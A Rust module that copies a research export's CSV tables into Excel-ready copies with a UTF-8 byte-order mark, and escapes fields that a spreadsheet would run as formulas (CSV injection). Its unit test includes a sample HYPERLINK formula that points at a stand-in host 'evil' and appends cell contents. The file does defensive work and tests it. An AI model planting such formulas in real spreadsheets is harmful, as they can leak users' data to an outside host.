//! Copies of an export's tables for spreadsheets. The export itself stays as it is: programs read it, and Psych-DS knows no
//! byte-order mark.

use std::{
    fs::{self, File},
    io::Write,
    path::Path,
};

use anyhow::{Context, Result};

/// The folder of the copies, beside `dataset` and `private`.
pub const FOLDER: &str = "excel";
/// By which Excel knows UTF-8.
const BYTE_ORDER_MARK: &[u8] = b"\xef\xbb\xbf";

/// Copies every table of an export below its folder `excel`, and returns how many there are. Excel reads the copies as
/// UTF-8, and runs no text in them as a formula: an apostrophe stands before it.
pub fn copy(export: &Path) -> Result<usize> {
    let mut copied = 0;
    let mut folders = vec!["dataset/data".into(), Path::new("private").to_owned()];
    while let Some(folder) = folders.pop() {
        let from = export.join(&folder);
        if !from.is_dir() {
            continue;
        }
        for entry in fs::read_dir(&from).with_context(|| format!("reading {}", from.display()))? {
            let entry = entry?;
            let path = folder.join(entry.file_name());
            if entry.file_type()?.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|ending| ending == "csv") {
                let to = export.join(FOLDER).join(&path);
                table(&entry.path(), &to).with_context(|| format!("copying {}", entry.path().display()))?;
                copied += 1;
            }
        }
    }
    Ok(copied)
}

fn table(from: &Path, to: &Path) -> Result<()> {
    if let Some(folder) = to.parent() {
        fs::create_dir_all(folder)?;
    }
    let mut file = File::create(to)?;
    file.write_all(BYTE_ORDER_MARK)?;
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_path(from)?;
    let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(file);
    let mut record = csv::StringRecord::new();
    while reader.read_record(&mut record)? {
        for field in &record {
            if is_formula(field) {
                writer.write_field(format!("'{field}"))?;
            } else {
                writer.write_field(field)?;
            }
        }
        writer.write_record(None::<&[u8]>)?;
    }
    writer.flush()?;
    Ok(())
}

/// Whether a spreadsheet would run a text (OWASP, "CSV Injection"). A number is none.
fn is_formula(field: &str) -> bool {
    field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && field.parse::<f64>().is_err()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_copy_is_read_as_it_was_written_and_nothing_in_it_is_run() {
        let home = std::env::temp_dir().join(format!("footlights-excel-{}", std::process::id()));
        let answers = "dataset/data/answers/s_answers_data.csv";
        for (name, text) in [
            (
                answers,
                "subject_id,answer\ns1,Zürich 你好 🙂\ns2,\"=HYPERLINK(\"\"http://evil\"\"&A1,\"\"x\"\")\"\ns3,-2.5\ns4,@SUM(1)\ns5,\"two\nlines\"\ns6,+1-1\n",
            ),
            ("private/identifiers.csv", "subject_id\n-x\n"),
            ("dataset/dataset_description.json", "{}"),
        ] {
            let path = home.join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        assert_eq!(copy(&home).unwrap(), 2);
        let copied = fs::read(home.join(FOLDER).join(answers)).unwrap();
        let text = std::str::from_utf8(copied.strip_prefix(BYTE_ORDER_MARK).unwrap()).unwrap();
        let read: Vec<String> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|record| record.unwrap()[1].to_owned())
            .collect();
        let formula = "'=HYPERLINK(\"http://evil\"&A1,\"x\")";
        assert_eq!(read, ["Zürich 你好 🙂", formula, "-2.5", "'@SUM(1)", "two\nlines", "'+1-1"]);
        let private = fs::read_to_string(home.join(FOLDER).join("private/identifiers.csv")).unwrap();
        assert!(private.ends_with("subject_id\n'-x\n"), "{private:?}");
        assert_eq!(copy(&home).unwrap(), 2, "the copies are not copied");
        fs::remove_dir_all(home).unwrap();
    }
}
